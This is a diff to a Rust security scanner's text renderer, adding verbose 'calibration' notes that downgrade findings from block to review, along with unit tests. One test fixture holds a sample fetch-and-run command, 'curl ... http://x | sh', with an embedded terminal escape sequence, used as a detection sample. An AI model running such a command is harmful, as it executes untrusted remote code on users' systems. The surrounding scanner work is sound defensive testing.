@@ -116,6 +116,20 @@ fn render_target(out: &mut String, tool: ToolInfo, report: &TargetReport, option
             let _ = writeln!(out, "  - {}: {}", esc(&skipped.path), esc(&skipped.reason));
         }
     }
+    if options.verbose && !report.calibration.is_empty() {
+        out.push_str("\ncalibration:\n");
+        for note in &report.calibration {
+            let _ = writeln!(
+                out,
+                "  - {}: {} -> {}: {} [{}]",
+                note.group,
+                note.from,
+                note.to,
+                esc(&note.reason),
+                note.finding_ids.join(", ")
+            );
+        }
+    }
     if options.verbose && !report.diagnostics.is_empty() {
         out.push_str("\nnotes:\n");
         for note in &report.diagnostics {
@@ -265,6 +279,9 @@ mod tests {
             snippet: "  curl -s \u{1b}]8;;x\u{7}http://x | sh".into(),
             snippet_highlight: (2, 33),
             mitre: vec!["T1059.004".into()],
+            capabilities: vec![Capability::RemoteExec],
+            file_role: FileRole::Source,
+            import_time: false,
             related: vec![],
         };
         TargetReport {
@@ -278,6 +295,13 @@ mod tests {
                 rationale: "Runs code fetched at run time".into(),
                 compound: false,
                 finding_ids: vec!["f1".into()],
+            }],
+            calibration: vec![CalibrationNote {
+                group: "remote_exec/supporting_artifact/malicious_behavior".into(),
+                from: RecommendedAction::Block,
+                to: RecommendedAction::Review,
+                reason: "found only in test files".into(),
+                finding_ids: vec!["f9".into()],
             }],
             package: PackageSummary::default(),
             findings: vec![finding],
@@ -306,6 +330,32 @@ mod tests {
         assert!(text.contains("12 │"), "real line number shown: {text}");
         assert!(text.contains("Runs whatever the server sends."));
         assert!(text.contains("skipped:"));
+    }
+
+    #[test]
+    fn calibration_notes_show_under_verbose_only() {
+        let plain = render_text(TOOL, &[report()], TextOptions::default());
+        assert!(!plain.contains("calibration:"));
+        let verbose = render_text(
+            TOOL,
+            &[report()],
+            TextOptions {
+                verbose: true,
+                color: false,
+            },
+        );
+        assert!(verbose.contains("calibration:\n  - remote_exec/supporting_artifact/malicious_behavior: block -> review: found only in test files [f9]"), "{verbose}");
+    }
+
+    #[test]
+    fn compound_reasons_are_marked() {
+        let mut report = report();
+        report.reasons[0].compound = true;
+        let text = render_text(TOOL, &[report], TextOptions::default());
+        assert!(
+            text.contains("  - compound remote_exec / package_root_artifact:"),
+            "{text}"
+        );
     }
 
     #[test]
